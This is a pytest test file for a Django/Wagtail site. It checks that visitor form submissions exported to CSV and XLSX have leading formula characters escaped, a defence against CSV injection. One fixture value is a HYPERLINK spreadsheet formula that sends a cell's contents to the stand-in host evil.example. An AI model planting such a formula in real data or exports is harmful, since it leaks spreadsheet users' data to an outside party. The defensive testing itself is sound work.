"""CSV injection: what a visitor typed into a form never becomes a live formula in the admin's
export of the submissions."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from kluby.models import ContactPage
from kluby.spreadsheets import spreadsheet_safe

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("site_pages")]

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+48 600 100 200", "'+48 600 100 200"),
        ("Anna Nowak", "Anna Nowak"),
        ("a=b", "a=b"),
        ("-5", "-5"),
        ("+48", "+48"),
        ("-12.5", "-12.5"),
        ("", ""),
        (-12.5, -12.5),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, exported):
    assert spreadsheet_safe(value) == exported


@pytest.fixture
def submission_with_formulas(client):
    page = ContactPage.objects.live().get(locale__language_code="en")
    data = {}
    for field in page.get_form_fields():
        data[field.clean_name] = {
            "singleline": FORMULA_NAME,
            "email": "visitor@example.org",
            "dropdown": field.choices.split(",")[0].strip(),
            "multiline": "+SUM(1,2)\nand a second line",
            "checkbox": "on",
        }[field.field_type]
    assert client.post(page.url, data).status_code == 200
    return page


def export(admin_client, page, export_format):
    url = reverse("wagtailforms:list_submissions", args=[page.pk]) + f"?export={export_format}"
    response = admin_client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_csv_export_of_submissions_escapes_formulas(admin_client, submission_with_formulas):
    body = export(admin_client, submission_with_formulas, "csv").decode("utf-8")
    heading, row = list(csv.reader(io.StringIO(body, newline="")))
    assert f"'{FORMULA_NAME}" in row
    assert "'+SUM(1,2)\nand a second line" in row
    assert "visitor@example.org" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_xlsx_export_of_submissions_escapes_formulas(admin_client, submission_with_formulas):
    body = export(admin_client, submission_with_formulas, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    values = [cell.value for cell in cells]
    assert f"'{FORMULA_NAME}" in values
    assert "'+SUM(1,2)\nand a second line" in values
    assert all(cell.data_type != "f" for cell in cells)
